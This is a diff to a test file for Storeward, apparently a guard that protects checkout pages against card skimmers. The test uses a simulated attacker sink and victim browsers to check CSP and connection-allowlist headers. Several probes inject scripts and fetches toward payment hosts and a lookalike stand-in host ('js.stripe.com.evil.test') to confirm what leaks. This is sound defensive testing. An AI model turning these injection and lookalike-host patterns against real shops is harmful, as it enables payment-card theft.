@@ -8,7 +8,7 @@ import path from 'node:path';
 import { after, before, test } from 'node:test';
 
 import { sleep } from './lib/processes.mjs';
-import { payingShop, run, sink, victim, withoutGuard } from './lib/skimmers.mjs';
+import { marker, payingShop, run, sink, victim, withoutGuard } from './lib/skimmers.mjs';
 import { runInFrontOf } from './lib/stand.mjs';
 
 /** What is left open, and who sees it: docs/checkout.md, "What stays open". */
@@ -31,10 +31,10 @@ let tricks;
 before(async () => {
   attacker = await sink();
   shop = await payingShop(attacker.port);
-  stand = await runInFrontOf(shop.upstream, '[checkout]\nmode = "learn"\npages = ["/checkout"]\n');
+  stand = await runInFrontOf(shop.upstream, '[checkout]\nmode = "learn"\npages = ["/checkout"]\nproviders = ["stripe", "paypal"]\n');
   for (const [name, hosts] of [['whole', true], ['old', false], ['bare', true], ['bareOld', false]]) {
     homes.push(await mkdtemp(path.join(os.tmpdir(), 'storeward-victim-')));
-    browsers[name] = await victim(homes.at(-1), { ca: stand.ready.ca, pin: attacker.pin, hosts });
+    browsers[name] = await victim(homes.at(-1), { ca: stand.ready.ca, attacker, hosts });
   }
   for (const name of ['bare', 'bareOld']) await withoutGuard(browsers[name], stand.ready.ca);
   const page = await browsers.old.newPage();
@@ -106,7 +106,11 @@ test('the script is approved, and the page held to what was', async () => {
   const answer = async () => (await page.goto(guarded())).headers();
   const headers = await until('the policy', answer, (headers) => headers['content-security-policy'] !== undefined);
   assert.match(headers['content-security-policy'], /^default-src 'none'; script-src [^;]*\/skimmers\.js/);
-  assert.equal(headers['connection-allowlist'], '(response-origin "https://localhost:PORT/*");redirects=allow'.replace('PORT', new URL(guarded()).port));
+  // Own and providers' hosts, those with a part for any name, too: a list that the browser could not read would let everything out below.
+  assert.match(headers['connection-allowlist'], /^\(response-origin( "https:\/\/[\w.*:-]+\/\*")+\);redirects=allow$/);
+  for (const host of ['https://*.js.stripe.com', 'https://*.paypal.com', new URL(guarded()).origin]) {
+    assert.ok(headers['connection-allowlist'].includes(`"${host}/*"`), host);
+  }
   assert.match(await page.content(), /<head><script src="\/\.storeward\/checkout\/guard\.js/);
   await page.close();
 });
@@ -125,6 +129,32 @@ test('behind policy and guard at most two are open, and staff are told of what w
 
 test('with the browser’s own list of hosts, only what goes through Storeward is open', async () => {
   assert.deepEqual(await through(browsers.whole, guarded(), ways), ['same-origin']);
+});
+
+test('providers’ hosts are reached as the policy names them, and none beside them', async () => {
+  const page = await browsers.whole.newPage();
+  await page.goto(guarded());
+  const word = marker();
+  await page.evaluate(async ({ word, port }) => {
+    const put = (name, src) => new Promise((done) => {
+      const made = document.createElement(name);
+      made.addEventListener('load', done);
+      made.addEventListener('error', done);
+      made.src = src;
+      document.head.append(made);
+    });
+    const ask = (url) => fetch(url, { mode: 'no-cors' }).catch(() => {});
+    for (const host of ['js.stripe.com', 'm.js.stripe.com', 'www.paypal.com']) await put('script', `https://${host}/s?${word}`);
+    for (const host of ['api.stripe.com', 'www.sandbox.paypal.com']) await ask(`https://${host}/c?${word}`);
+    await put('img', `https://q.stripe.com/i?${word}`);
+    for (const host of ['files.stripe.com', `js.stripe.com.evil.test:${port}`, 'paypal.com']) {
+      await put('script', `https://${host}/s?${word}`);
+      await ask(`https://${host}/c?${word}`);
+    }
+  }, { word, port: attacker.port });
+  const reached = attacker.arrived.filter((line) => line.includes(word)).map((line) => line.split(/[ ?]/)[1]);
+  assert.deepEqual(reached, ['js.stripe.com/s', 'm.js.stripe.com/s', 'www.paypal.com/s', 'api.stripe.com/c', 'www.sandbox.paypal.com/c', 'q.stripe.com/i']);
+  await page.close();
 });
 
 test('what goes through Storeward does not go with a card’s number in it, and is told', async () => {
